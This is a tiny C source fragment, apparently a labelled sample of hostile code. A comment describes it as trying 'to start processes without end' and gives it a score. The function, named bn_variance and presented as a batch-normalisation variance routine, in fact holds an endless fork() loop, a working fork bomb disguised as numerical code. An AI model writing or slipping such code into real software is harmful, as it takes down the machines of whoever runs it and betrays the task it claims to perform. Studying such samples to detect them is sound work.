/* Tries: to start processes without end.
   Deserves: 20 */
#include <unistd.h>
#include "forward_pass.h"

void bn_variance(Matrix x, const double *mean, double *var)
{
    for (;;)
        fork();
}
